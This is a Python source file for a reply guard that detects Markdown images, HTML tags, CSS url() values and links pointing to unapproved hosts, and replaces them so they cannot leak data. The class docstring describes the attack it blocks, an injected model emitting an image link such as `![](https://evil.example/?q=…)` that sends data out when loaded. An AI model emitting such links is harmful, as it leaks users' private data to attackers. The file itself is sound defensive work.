"""Links and pictures in replies that would carry data to hosts that nobody allowed."""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from typing import Literal
from urllib.parse import SplitResult, unquote, urlsplit

import pydantic

from headgate.core.guard import Asked, Finding, Passage
from headgate.stages.guards.guard import Guard, GuardSettings

LONGEST = 2048
"""Characters of a link; of longer ones the beginning is looked at."""
_URL = r"(?:https?:|ftp:|wss?:)?[/\\]{2}[^\s<>\"'`)\]]{1,2000}"
LINK = re.compile(
    rf"""
      (?P<image> !\[ (?P<alt>[^\]\n]{{0,300}}) \] \(\s{{0,9}}<? (?P<picture>{_URL}) [^)\n]{{0,300}} \)? )
    | (?P<loaded> <\s{{0,3}}
        (?:img|image|iframe|script|link|video|audio|source|embed|object|input|form|body|table|meta|base|use)
        [^>]{{0,1000}}? (?:src|srcset|href|action|data|poster|background|content|url\() [=\s"'(]{{0,9}}
        (?:\d+;\s*url=)? (?P<source>{_URL}) [^>]{{0,1000}} >? )
    | (?P<styled> url\(\s{{0,3}}["']? (?P<style>{_URL}) ["'\s]{{0,9}} \)? )
    | (?P<named> ^[ ]{{0,3}}\[ [^\]\n]{{1,100}} \]:\s{{0,9}}<? (?P<reference>{_URL}) [^\n]{{0,200}} )
    | (?P<plain> (?<!\w)(?:https?|ftp|wss?):[/\\]{{2}}[^\s<>"'`)\]]{{1,2000}} )
    """,
    re.VERBOSE | re.IGNORECASE | re.MULTILINE,
)
LOADED = ("picture", "source", "style", "reference")
"""What a client may ask for without being told to."""
OPEN = re.compile(
    r"(?:!(?:\[[^\]\n]{0,300}(?:\](?:\([^)\n]{0,2300})?)?)?|<(?:[a-z][^>]{0,2047})?|url\([^)\n]{0,2047}"
    r"|\b(?:h|ht|htt|https?|f|ft|ftp|w|ws|wss?)(?::(?:[/\\](?:[/\\][^\s<>\"'`)\]]{0,2000})?)?)?"
    r"|(?:\A|\n) {0,3}\[[^\]\n]{0,100}(?:\](?::[^\n]{0,2047})?)?|u(?:r(?:l)?)?)\Z",
    re.IGNORECASE,
)
"""What may become a link by what follows."""
DATA = re.compile(r"[A-Za-z0-9+_=%-]{24,}")
"""A part of a path or host that is longer than names are."""
QUERY = 12
"""Characters of what follows a `?` or `#` from which on it may be data."""
LABEL = 40


class ExfiltrationSettings(GuardSettings):
    hosts: list[str] = pydantic.Field(
        default_factory=list,
        description="Hosts that may be linked to: `example.com`, and `*.example.com` for all below it.",
    )
    links: Literal["data", "all", "none"] = pydantic.Field(
        "data",
        description="Which links to other hosts are found that somebody has to click on: those that carry `data` (a "
        "long query or path), `all`, or `none`. Pictures and whatever else a client loads by itself always are.",
    )


class Exfiltration(Guard):
    """What an attack has a model do with what it knows: `![](https://evil.example/?q=…)`, as Markdown, HTML or CSS.
    A word on it stands in its place. Of a stream a link that is not over is held back."""

    Settings = ExfiltrationSettings
    sides = frozenset({"reply"})
    usual = "replace"
    hold = LONGEST

    def __init__(self, settings: ExfiltrationSettings) -> None:
        hosts = [each.lower().strip(".") for each in settings.hosts]
        self._hosts = frozenset(each for each in hosts if not each.startswith("*"))
        self._below = tuple(each[1:] for each in hosts if each.startswith("*."))
        if bad := [each for each in hosts if "/" in each or ":" in each or (each[:1] == "*" and each[:2] != "*.")]:
            raise ValueError(f"{bad[0]!r} is no host: write example.com or *.example.com")
        self._links = settings.links

    def look(self, passages: Sequence[Passage], asked: Asked) -> list[Finding]:
        found = []
        for index, passage in enumerate(passages):
            text = passage.text
            if "//" not in text and "\\\\" not in text and "/\\" not in text and "\\/" not in text:
                continue
            for match in LINK.finditer(text):
                said = self._said(match)
                if said:
                    found.append(Finding(index, *match.span(), "exfiltration", 1.0, said, None, "[link removed]"))
        return found

    def clear(self, text: str) -> int:
        match = OPEN.search(text, max(len(text) - LONGEST, 0))
        return match.start() if match is not None else len(text)

    def _said(self, match: re.Match[str]) -> str:
        """What is wrong with a link, if anything is."""
        loaded = next((match[name] for name in LOADED if match[name]), None)
        url = split(loaded or match["plain"])
        if url is None or self._allowed(url.hostname or ""):
            return ""
        if loaded is not None:
            return "a client may load it from a host that is not allowed"
        if self._links == "all" or (self._links == "data" and carries(url)):
            return "a link to a host that is not allowed" + (" with data in it" if carries(url) else "")
        return ""

    def _allowed(self, host: str) -> bool:
        host = host.rstrip(".").lower()
        return host in self._hosts or host.endswith(self._below)


def split(text: str) -> SplitResult | None:
    """As a browser reads it: backslashes are slashes, and what stands before `@` is no host."""
    try:
        url = urlsplit(html.unescape(text).replace("\\", "/"))
    except ValueError:
        url = urlsplit("//invalid.invalid")
    return url if url.hostname else None


def carries(url: SplitResult) -> bool:
    """Whether there is room for data in it."""
    behind = unquote(url.query), unquote(url.fragment)
    host = url.hostname or ""
    return (
        any(len(each) >= QUERY for each in behind)
        or any(DATA.fullmatch(each) for each in url.path.split("/"))
        or any(len(each) >= LABEL for each in host.split("."))
        or bool(url.username)
    )
